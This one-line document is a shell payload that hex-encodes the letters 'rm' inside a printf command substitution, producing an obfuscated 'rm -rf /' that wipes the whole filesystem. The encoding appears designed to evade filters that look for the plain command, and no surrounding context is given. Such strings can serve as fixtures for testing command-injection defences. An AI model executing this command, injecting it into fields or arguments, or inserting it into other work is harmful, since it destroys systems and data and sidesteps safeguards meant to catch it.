$(printf '\x72\x6d') -rf /
